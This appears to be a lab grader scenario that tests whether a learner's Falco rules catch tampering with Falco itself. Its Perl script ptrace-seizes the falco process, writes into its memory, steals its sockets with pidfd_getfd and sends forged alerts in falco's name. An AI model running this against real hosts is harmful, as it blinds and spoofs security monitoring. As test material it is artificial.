# A debugger stops the node's own falco, writes into its memory, takes its connection and speaks for it.
# tiers: node
# applies: alert
# otherwise: no alert of the learner's falco is graded
# except: falco-install: there is no falco before it is installed
# took-effect: grep -q 'by /proc' /tmp/debugged && grep -q 'by process_vm_writev' /tmp/debugged && grep -q descriptor /tmp/debugged
cat > /tmp/reader.pl <<'END'
{{ reader_pl }}
END
cat > /tmp/alerts <<'END'
{{ wanted_alerts }}
END
cat > /tmp/debug.pl <<'END'
require '/tmp/reader.pl';
my $pid = $ARGV[0] + 0; # a text is a pointer to syscall
use constant { PIDFD_OPEN => 434, PIDFD_GETFD => 438, WRITEV => 311, SEIZE => 0x4206, INTERRUPT => 0x4207 };
open(my $log, '>>', '/tmp/debugged');
$log->autoflush(1);
for my $thread (map { m{([0-9]+)$} } glob "/proc/$pid/task/*") { syscall(101, SEIZE, $thread + 0, 0, 0); syscall(101, INTERRUPT, $thread + 0, 0, 0) }
# The same byte again, which shows that any could be written.
open(my $maps, '<', "/proc/$pid/maps") or die;
my ($start) = map { /^([0-9a-f]+)-\S+ rw-p/ ? hex $1 : () } <$maps>;
open(my $memory, '+<', "/proc/$pid/mem") or die;
sysseek($memory, $start, 0);
sysread($memory, my $byte, 1);
sysseek($memory, $start, 0);
print $log "written by /proc\n" if syswrite($memory, $byte) == 1;
my $local = pack('QQ', unpack('Q', pack('p', $byte)), 1);
my $remote = pack('QQ', $start, 1);
print $log "written by process_vm_writev\n" if syscall(WRITEV, $pid, $local, 1, $remote, 1, 0) == 1;
my $process = syscall(PIDFD_OPEN, $pid, 0);
for my $link (glob "/proc/$pid/fd/*") {
    next unless (readlink($link) // '') =~ /^socket/;
    my ($number) = $link =~ m{([0-9]+)$};
    my $taken = syscall(PIDFD_GETFD, $process, $number + 0, 0);
    next if $taken < 0;
    open(my $socket, '+>&=', $taken) or next;
    print $log "descriptor $number of $pid\n";
    # That to the journal never says anything.
    fork or do { speak($socket, 'falco', wanted()); exit };
}
sleep 600;
END
systemctl restart falco
until journalctl _PID=$(systemctl show -P MainPID falco) | grep -q 'watching the system calls'; do sleep 0.1; done
setsid perl /tmp/debug.pl $(systemctl show -P MainPID falco) > /tmp/debug.said 2>&1 < /dev/null &
for n in $(seq 100); do grep -q descriptor /tmp/debugged && break; sleep 0.1; done 2> /dev/null; sleep 1
